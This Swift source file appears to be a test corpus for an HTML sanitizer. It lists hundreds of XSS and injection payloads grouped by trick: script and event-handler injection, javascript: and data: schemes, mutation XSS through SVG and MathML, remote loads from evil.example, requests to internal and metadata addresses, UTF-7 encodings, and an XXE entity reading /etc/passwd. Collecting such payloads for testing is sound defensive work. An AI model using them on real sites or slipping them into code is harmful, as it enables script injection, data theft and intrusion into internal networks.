/// Markup that runs or loads something in one reader or another, by the trick that it plays.
package enum MarkupAttacks {
  package static let all: [String] =
    scripts + handlers + schemes + rawText + foreign + nesting + loading + styles + encodings
    + broken

  package static let scripts = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script >alert(1)</script >", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)", "<script src=\"data:text/javascript,alert(1)\"></script>",
    "<script type=module>import 'https://evil.example'</script>", "</script><script>alert(1)//",
    "<script><!--\nalert(1)//--></script>", "<b><script>alert(1)</b></script>",
    "<script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<script>/*<img src=x onerror=alert(1)>*/</script>", "<noscript><script>alert(1)</noscript>",
  ]

  package static let handlers = [
    "<img src=x onerror=alert(1)>", "<img src=x ONERROR=alert(1)>", "<img src=x onerror =alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src='x' onerror='alert(1)'>", "<img src=`x`onerror=alert(1)>",
    "<img \u{0C}src=x\u{0C}onerror=alert(1)>", "<b onmouseover=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>x</details>", "<video src=x onloadstart=alert(1)></video>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<a href=# onclick=alert(1)>x</a>", "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>", "<p onpointerenter=alert(1) contenteditable>x</p>",
    "<a href='x' title='\" onmouseover=alert(1) x=\"'>x</a>",
    "<a title=\"a\" onfocus\n=\n\"alert(1)\" href=x>x</a>", "<xyz onclick=alert(1)>x</xyz>",
    "<img src=x alt=\"`onerror=alert(1)`\">", "<table background=x onbeforeprint=alert(1)><td>x",
    "<img src=x on\u{0}error=alert(1)>",
  ]

  static let schemes = [
    "<a href=javascript:alert(1)>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"java\u{0}script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>", "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert&lpar;1&rpar;\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>", "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>", "<a href=\"&#14;  javascript:alert(1)\">x</a>",
    "<a href=\"&amp;#106;avascript:alert(1)\">x</a>", "<a href=\"&amp;amp;#106;avascript:a\">x</a>",
    "<a href=\"java\u{AD}script:alert(1)\">x</a>", "<a href=\"\u{200B}javascript:alert(1)\">x</a>",
    "<a href=\"\u{FEFF}javascript:alert(1)\">x</a>", "<a href=\"\u{A0}javascript:alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>", "<a href=VBScript&colon;msgbox(1)>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", "<a href=livescript:x>x</a>",
    "<a href=file:///etc/passwd>x</a>", "<a href=blob:https://x/1>x</a>",
    "<a href=view-source:javascript:1>x</a>", "<a href=feed:javascript:alert(1)>x</a>",
    "<a href=about:blank>x</a>", "<a href=intent://scan/#Intent;end>x</a>",
    "<a href=ms-msdt:/id>x</a>", "<img src=javascript:alert(1)>", "<img src=mailto:a@b.c>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<q cite=javascript:alert(1)>x</q>",
    "<img srcset=\"javascript:alert(1) 1x\">", "<img srcset=\"x 1x, data:image/svg+xml;x 2x\">",
    "<video poster=javascript:alert(1)></video>", "<blockquote cite=\"data:x,y\">x</blockquote>",
    "<a href=\"https://user:secret@evil.example/\">x</a>", "<a href=\"http:///evil.example\">x</a>",
    "<a href=\"javascript\\:alert(1)\">x</a>", "<a href=\"javascript://%0aalert(1)\">x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>", "<a href=x ping=https://evil.example/>x</a>",
  ]

  static let rawText = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<style><p title=\"</style><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>", "<listing>&lt;img onerror=alert(1)&gt;</listing>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<xmp>&lt;/xmp&gt;&lt;img src=x onerror=alert(1)&gt;</xmp>",
    "<script><p title=\"</script><img src=x onerror=alert(1)>\">",
  ]

  static let foreign = [
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><a xlink:href=javascript:a>x",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>", "<svg><use href=data:x#y /></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=a&gt;\">",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><desc><noscript>&lt;/noscript&gt;&lt;img src=x onerror=a&gt;</desc></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:a>x</maction></math>",
  ]

  static let nesting = [
    "<form action=https://evil.example><input name=q><button formaction=javascript:a>x</button></form>",
    "<form><form><button formaction=x>", "<isindex action=javascript:alert(1)>",
    "<table><form><tr><td><input type=image src=x></form>", "<table><a><script>x</script><tr><a>",
    "<b><p><b><p><table><b><p onclick=x>", "<a><table><a><a href=javascript:x>y",
    "<p><table><p><td><p><caption><img src=x onerror=a>", "<select><b><script>x</script>",
    "<frameset><frame src=javascript:alert(1)></frameset>", "<object><a href=javascript:x>y</a>",
    "<dialog open><form method=dialog>", "<map name=m><area href=javascript:x></map>",
    "<ruby><rt><ruby><rt><script>x", "<li><li><dl><dd><li><iframe src=javascript:x>",
    "<button><a><button><a href=javascript:x>", "<nobr><nobr><img/onerror=a src=y>",
  ]

  static let loading = [
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc=\"<script>a</script>\"></iframe>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe src=http://www.youtube.com/embed/x>",
    "<iframe src=https://www.youtube.com.evil.example/embed/x>",
    "<iframe src=https://www.youtube.com@evil.example/embed/x>",
    "<iframe src=https://evil.example\\@www.youtube.com/embed/x>",
    "<iframe src=https://evil.example/https://www.youtube.com/embed/x>",
    "<iframe src=https://www.youtube.com/redirect?q=https://evil.example>",
    "<iframe src=https://www.youtube.com/embed/../redirect?q=x>",
    "<iframe src=https://www.youtube.com/embed/%2e%2e/redirect?q=x>",
    "<iframe src=https://www.youtube.com:8443/embed/x>", "<iframe src=//www.youtube.com:80/embed/>",
    "<object data=https://evil.example/x.swf></object>", "<embed src=https://evil.example/x.swf>",
    "<applet code=x codebase=https://evil.example></applet>", "<link rel=stylesheet href=x>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    "<bgsound src=x>", "<layer src=x></layer>", "<input type=image src=x>", "<portal src=x>",
    "<img src=http://127.0.0.1/>", "<img src=http://2130706433/>", "<img src=http://0x7f.1/>",
    "<img src=http://0177.0.0.1/>", "<img src=http://192.168.1.1/reboot>",
    "<img src=http://[::1]/>",
    "<img src=http://[::ffff:10.0.0.1]/>", "<img src=http://localhost/>",
    "<img src=http://router/>",
    "<img src=http://printer.local/>", "<img src=http://169.254.169.254/latest>",
    "<img src=\"http://\u{FF11}\u{FF12}\u{FF17}.0.0.1/\">", "<img src=http://127.0.0.1./>",
    "<img src=http://%31%32%37.0.0.1/>", "<video src=http://10.0.0.1/x></video>",
  ]

  static let styles = [
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
    "<p style=\"width:expression(alert(1))\">x</p>", "<p style=\"behavior:url(x)\">x</p>",
    "<p style=\"-moz-binding:url(x)\">x</p>", "<style>@import 'https://evil.example'</style>",
    "<p STYLE=\"color:red\">x</p>", "<table background=https://evil.example/x><td>x",
    "<font style=\"x:url(javascript:a)\">x</font>", "<td background=javascript:a>x",
  ]

  static let encodings = [
    "\u{FEFF}<script>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<meta charset=utf-7>+ADw-script+AD4-a+ADw-/script+AD4-",
    "\u{BC}script\u{BE}alert(1)\u{BC}/script\u{BE}",
    "\u{FF1C}script\u{FF1E}alert(1)", "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<\u{0}script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&LT;script&GT;alert(1)", "a\u{FFFE}b\u{FFFF}c",
    "&#xD800;&#xFFFE;&#0;&#27;[31m", "\u{1B}]0;title\u{7}\u{9B}31m",
    "<meta charset=iso-2022-jp>\u{1B}$B",
  ]

  static let broken = [
    "<!--><script>alert(1)</script>-->", "<!---><img src=x onerror=a>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->", "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<![CDATA[><img src=x onerror=a>]]>",
    "<!x><script>a</script>", "<?xml version=\"1.0\"?><script>a</script>",
    "<?<img onerror=a src=x>?>",
    "</br/onclick=a><img onerror=a src=x//", "<img src=\"x><script>alert(1)</script>",
    "<a href=\"x\" <img src=y onerror=a>z", "<img src=x onerror=alert(1)", "<a href='x",
    "<", "</", "<a", "<a ", "<a href", "<a href=", "&", "&#", "&#x", "&#99999999999;", "<!", "<!-",
    "<!--", "<![CDATA[", "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><p>&x;",
    "]]>", "<scr<![CDATA[]]>ipt>alert(1)</script>", "<scr<!x>ipt>alert(1)</script>",
    "<img src=x \"><script>alert(1)</script>\">", "<img =\"><script>alert(1)</script>\" src=x>",
  ]
}
